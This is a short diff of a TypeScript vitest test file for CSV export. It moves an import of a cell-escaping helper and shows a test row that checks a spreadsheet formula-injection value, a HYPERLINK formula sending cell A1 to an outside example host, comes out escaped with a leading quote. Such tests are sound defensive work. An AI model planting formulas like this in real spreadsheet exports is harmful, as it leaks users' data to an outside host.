@@ -3,7 +3,8 @@ import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { emailFinding } from '../endpoints/waterfall/email-finding.ts';
 import { emailVerification } from '../endpoints/waterfall/email-verification.ts';
-import { cell, resultColumns } from './job-csv.ts';
+import { csvCell as cell } from '../text/csv-row.ts';
+import { resultColumns } from './job-csv.ts';
 
 test.for([
   ['=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'],
